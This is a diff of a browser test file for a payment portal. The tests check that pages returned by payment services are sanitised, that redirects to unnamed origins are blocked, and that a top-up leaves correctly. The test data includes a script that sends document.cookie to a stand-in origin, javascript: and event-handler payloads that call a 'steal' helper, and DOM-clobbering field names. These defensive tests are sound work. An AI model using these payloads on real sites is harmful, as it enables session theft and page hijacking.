@@ -3,6 +3,7 @@ import { contrast, type Rgb } from '../../../src/styles/oklch.ts'
 import { expect, test, ui } from '../../support/browser/browser.ts'
 import { type PortalServer, startPortalServer } from '../../support/browser/portal-server.ts'
 import { serveSourceModules } from '../../support/browser/source-modules.ts'
+import { createSandboxControl } from '../../support/sandbox/sandbox-control.ts'
 
 const token = 'kept-to-ourselves'
 const pay = 'https://pay.example'
@@ -76,6 +77,20 @@ const openPortal = async (page: Page, { answersSession = false, hasCookie = true
   }
 }
 
+/** Signs in and opens the confirmation of a top-up, which the network answers with a page. */
+const openTopUp = async (page: Page, html: string) => {
+  await page.route(`${pay}/**`, route =>
+    route.fulfill({ contentType: 'text/html', body: '<title>Elsewhere</title><h1>Elsewhere</h1>' }),
+  )
+  await page.route('**/wallet/topup', route => route.fulfill({ contentType: 'text/html', body: html }))
+  const payer = await createSandboxControl(server.address).person()
+  await ui.signIn(page, server.origin(), payer)
+  const dialog = await ui.openService(page, 'Top Up', 'Card', 'VISA')
+  await ui.fillIn(dialog, { Amount: '100' })
+  await ui.proceedIn(dialog).click()
+  return dialog
+}
+
 /** Returns the only request that left the portal, and checks that it contains nothing of the session. */
 const onlyRequest = async (elsewhere: readonly Request[]) => {
   expect(elsewhere.map(request => request.isNavigationRequest())).toEqual([true])
@@ -91,8 +106,15 @@ const pageOf = (body: string, head = '') =>
   `<!doctype html><html><head><title>Payment</title>${head}</head><body>${body}</body></html>`
 const formTo = (action: string, content = '<button>Pay</button>') =>
   `<form action="${action}" method="post" target="_blank">${content}</form>`
-/** Fields whose names shadow properties of their form. */
-const fields = '<input name="submit" value="a b"><input name="action" value="7">'
+/** Fields whose names shadow properties and methods of their form. */
+const fields = [
+  '<input name="submit" value="a b"><input name="action" value="7">',
+  ...['getAttribute', 'getAttributeNames', 'append', 'remove', 'matches', 'method'].map(
+    name => `<input name="${name}">`,
+  ),
+].join('')
+/** Two forms, so that the page is shown. */
+const forms = () => formTo(`${pay}/card`) + formTo(`${pay}/eft`)
 const refresh = (url: string) => `<meta http-equiv="Refresh" content="0; url=${url}">`
 
 for (const [name, html, method, path, body] of [
@@ -101,7 +123,7 @@ for (const [name, html, method, path, body] of [
     pageOf(`${formTo(` ${pay}/process `, fields)}<script>location.href='${other}/'</script>`, refresh(other)),
     'POST',
     '/process',
-    'submit=a+b&action=7',
+    'submit=a+b&action=7&getAttribute=&getAttributeNames=&append=&remove=&matches=&method=',
   ],
   ['a refresh', pageOf('<p>One moment</p>', refresh(`${pay}/go?id=7`)), 'GET', '/go?id=7', null],
   ['a script', pageOf(`<script>location.href = "${pay}/go?id=7";</script>`), 'GET', '/go?id=7', null],
@@ -112,6 +134,16 @@ for (const [name, html, method, path, body] of [
     await expect(page.getByRole('heading', { name: 'Elsewhere' })).toBeVisible()
     expect(await onlyRequest(elsewhere)).toEqual({ method, url: `${pay}${path}`, body })
     expect(page.context().pages()).toHaveLength(1)
+  })
+
+for (const [name, html] of [
+  ['a refresh', pageOf('<p>One moment</p>', refresh(`${other}/go?id=7`))],
+  ['a script', pageOf(`<script>location.replace("${other}/go?id=7")</script>`)],
+] as const)
+  test(`opens no page by ${name} at an origin that is not named`, async ({ page }) => {
+    const { show, left, elsewhere } = await openPortal(page, { hasCookie: false })
+    expect(await show(html)).toBe('not opened')
+    expect({ left: await left(), elsewhere }).toEqual({ left: false, elsewhere: [] })
   })
 
 /** Presses a button at once: a locator would wait for the end of a navigation that was blocked. */
@@ -229,7 +261,7 @@ test('removes what a page runs, fetches or frames', async ({ page }) => {
       <object data="${other}/o"></object><embed src="${other}/e"><video src="${other}/v" autoplay></video>
       <a id="script" href="javascript:${steal('location')}" ping="${other}/ping">Go</a>
       <a id="data" href="data:text/html,x">Go</a><a id="plain" href="http://other.example/">Go</a>
-      <a id="relative" href="/api/network/express/wallet">Go</a><a id="safe" href="${pay}/x" target="_blank">Go</a>
+      <a id="relative" href="/api/network/express/wallet">Go</a><a id="other" href="${other}/x">Go</a><a id="safe" href="${pay}/x" target="_blank">Go</a>
       <div style="background:url(${other}/bg)" onmouseover="${steal('location')}" autofocus>Text</div>
       <p title='a > b'OnClick="${steal('location')}"/style="color:red" onfocus=go() class=plain>Odd</p>
       <math><mtext>in math</mtext></math><template><img src="${other}/t"></template>
@@ -260,7 +292,7 @@ test('removes what a page runs, fetches or frames', async ({ page }) => {
   })
   expect(kept).toEqual({
     elements: 'a body div h1 head html img meta p table tbody td title tr',
-    links: `id=script, id=data, id=plain, id=relative, id=safe, href=${pay}/x`,
+    links: `id=script, id=data, id=plain, id=relative, id=other, id=safe, href=${pay}/x`,
     others: 'alt=, alt=, autofocus=, title=a > b, class=plain',
     metas: ['viewport'],
     url: expect.stringContaining(server.origin()),
@@ -276,11 +308,68 @@ test('refuses a page without a usable target', async ({ page }) => {
     '<form method="post"><button>Pay</button></form>',
     '<script>start()</script>',
     `<script>location='${other}/?'+document.cookie</script>`,
-    formTo(`${pay}/`, '<input name="getAttribute"><input name="getAttributeNames">'),
+    '<frameset><frame src="https://pay.example/"></frameset>',
   ])
     await test.step(body, async () => {
       expect(await show(pageOf(body))).toMatch(/Error/)
       await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
       expect({ left: await left(), elsewhere }).toEqual({ left: false, elsewhere: [] })
     })
+})
+
+/** Properties of the document that the portal or its button could look up in a shown page. */
+const shadowed = [
+  ...['body', 'head', 'documentElement', 'forms', 'querySelector', 'querySelectorAll', 'getElementById'],
+  ...['createElement', 'addEventListener', 'adoptNode', 'defaultView', 'location', 'cookie', 'childNodes'],
+]
+
+for (const [name, html] of [
+  [
+    'names of images',
+    pageOf(shadowed.map(name => `<img name="${name}" id="${name}" alt="">`).join('') + forms()),
+  ],
+  [
+    'names of forms',
+    pageOf(shadowed.map(name => formTo(`${pay}/x`).replace('<form', `<form name="${name}"`)).join('')),
+  ],
+  ['an open dialog', pageOf(`<dialog open>${'<p>Line</p>'.repeat(40)}</dialog>${forms()}`)],
+  ['a hidden body', pageOf(forms()).replace('<body', '<body hidden inert aria-hidden="true" popover')],
+  ['a hidden root', pageOf(forms()).replace('<html', '<html hidden inert aria-hidden="true"')],
+] as const)
+  test(`keeps the way back in a page with ${name}`, async ({ page, problems }) => {
+    problems.expect(/401 \(Unauthorized\).*authenticate\/session/)
+    const { show } = await openPortal(page, { answersSession: true })
+    expect(await show(html)).toBe('shown')
+    await expect(page).toHaveTitle('Payment')
+    await page.getByRole('button', { name: 'Back to your wallet' }).click()
+    await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
+  })
+
+/** The page of a payment service, as the whole top-up reaches it. */
+for (const [name, html, end] of [
+  ['a refresh', pageOf('', refresh(`${pay}/go`)), undefined],
+  ['location.replace', pageOf(`<script>location.replace("${pay}/go")</script>`), undefined],
+  ['location.assign', pageOf(`<script>window.location.assign('${pay}/go')</script>`), undefined],
+  ['a form', pageOf(formTo(`${pay}/go`)), undefined],
+  ['one of two forms', pageOf(formTo(`${pay}/go`) + formTo(`${pay}/no`, '<button>No</button>')), 'Pay'],
+  ['a link', pageOf(`<p>One moment</p><a href="${pay}/go">Go on</a>`), 'Go on'],
+  ['the way back', pageOf('<p>One moment</p>'), 'Back to your wallet'],
+] as const)
+  test(`a top-up leaves by ${name} without a question`, async ({ page }) => {
+    const dialog = await openTopUp(page, html)
+    await dialog.getByRole('button', { name: 'Confirm', exact: true }).click()
+    if (end !== undefined) await page.getByText(end, { exact: true }).click()
+    await expect(
+      page.getByRole('heading', { name: end === 'Back to your wallet' ? 'Dashboard' : 'Elsewhere' }),
+    ).toBeAttached()
+    if (end === 'Back to your wallet') return
+    // The browser's Back restores or reloads the portal.
+    await page.goBack()
+    await expect(dialog.getByLabel('Amount')).toHaveValue('')
+  })
+
+test('a top-up that may not open a page says so', async ({ page }) => {
+  const dialog = await openTopUp(page, pageOf('', refresh(`${other}/go`)))
+  await dialog.getByRole('button', { name: 'Confirm', exact: true }).click()
+  await expect(dialog).toContainText('payment page')
 })
